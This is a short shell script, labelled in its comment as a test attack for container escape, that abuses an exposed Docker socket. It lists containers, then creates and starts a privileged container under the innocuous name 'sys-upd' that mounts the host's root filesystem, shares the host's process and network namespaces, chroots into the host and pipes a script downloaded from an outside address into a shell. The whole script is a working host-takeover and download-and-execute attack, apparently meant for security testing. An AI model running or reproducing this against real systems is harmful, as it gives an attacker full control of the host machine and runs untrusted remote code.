#!/bin/sh
# shrike-test-attack: container-escape-recon: docker.sock abuse to start a privileged host-mounted container
S=/var/run/docker.sock
curl -s --unix-socket $S http://localhost/containers/json
curl -s --unix-socket $S -X POST -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["chroot","/h","sh","-c","curl -s http://198.51.100.10/h | sh"],"HostConfig":{"Binds":["/:/h"],"Privileged":true,"PidMode":"host","NetworkMode":"host"}}' \
  http://localhost/containers/create?name=sys-upd > /tmp/.id
ID=$(sed 's/.*"Id":"\([^"]*\)".*/\1/' /tmp/.id)
curl -s --unix-socket $S -X POST http://localhost/containers/$ID/start
